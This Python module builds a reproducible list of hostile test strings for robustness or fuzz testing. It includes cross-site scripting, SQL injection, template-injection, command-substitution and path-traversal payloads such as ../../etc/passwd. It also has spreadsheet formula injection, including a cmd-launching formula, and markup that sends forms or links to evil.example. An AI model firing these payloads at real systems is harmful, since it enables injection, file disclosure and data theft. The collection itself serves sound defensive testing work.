"""Words that people send to break a page, a script, a file or a line of print; 200 and more."""

import random

MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    "'><b onmouseover=alert(1)>",
    "</textarea><script>alert(1)//",
    "</li></ul><h1>Hej",
    "<!-- ",
    "--> ",
    "<![CDATA[",
    "</title><script>",
    "&lt;script&gt;",
    "&#60;b&#62;",
    "javascript:alert(1)",
    "<a href=//evil.example>x</a>",
    "<style>*{display:none}</style>",
    "<iframe src=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<form action=//evil.example><input name=q>",
    '" hx-get="//evil.example" hx-trigger="load',
    '" style="position:fixed',
    "{{ 7 * 7 }}",
    "{% raw %}",
    "{# x #}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "%(n)s %s %d %%",
    "{0} {name}",
    "\\u0041\\x41",
    "data: x\n\nevent: frame\ndata: <b>",
    "]]>",
    "`id`",
    "$(id)",
    "'; DROP TABLE wish; --",
    "1' OR '1'='1",
    "../../etc/passwd",
    "\\..\\..\\boot.ini",
    "%00",
    "null",
    "undefined",
)
FORMULAS = (
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    '=HYPERLINK("//evil.example")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    ";=1+1",
    ",=1+1",
    '"=1+1',
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "a;=1+1",
    "a\t=1+1",
)
SHAPES = (
    "W" * 140,
    "Å" * 140,
    "i" * 140,
    "漢" * 140,
    "👩‍👩‍👧‍👦" * 20,
    "🇸🇪" * 60,
    "a" + "\u0301" * 10_000,
    "Z\u0300\u0301" * 70,
    "\u202egnitsor\u2066",
    "\u200f\u202bעברית",
    "مرحبا " * 20,
    "ไ" * 100,
    "\u0000null\u0000",
    "\ufeffmark",
    "a\u00adb",
    "\u115f\u3164x",
    "﷽" * 20,
    "𒐫" * 60,
    "\u2028line\u2029",
    "x\u0085y",
    "\x1b[31mred",
    "\ud7ffx",
    "\uffffx",
    "ﬃ" * 40,
    "İıſẞ",
    "ẞ" * 140,
    "\u0600" * 30 + "x",
    "<" * 140,
    "&" * 140,
    '"' * 140,
    "'" * 140,
    "\\" * 140,
    "%" * 140,
    "." * 140,
    "- " * 70,
    "a " * 70,
)


def hostile_texts(count: int = 300) -> list[str]:
    """Return so many different hostile texts, the same ones each time."""
    chance = random.Random(4)
    known = [*MARKUP, *FORMULAS, *SHAPES]
    while len(known) < count:
        mixed = (
            chance.choice(MARKUP)
            + chance.choice(["", " ", "\u202e", "\n"])
            + chance.choice([*MARKUP, *FORMULAS])
        )
        if mixed not in known:
            known.append(mixed)
    return known
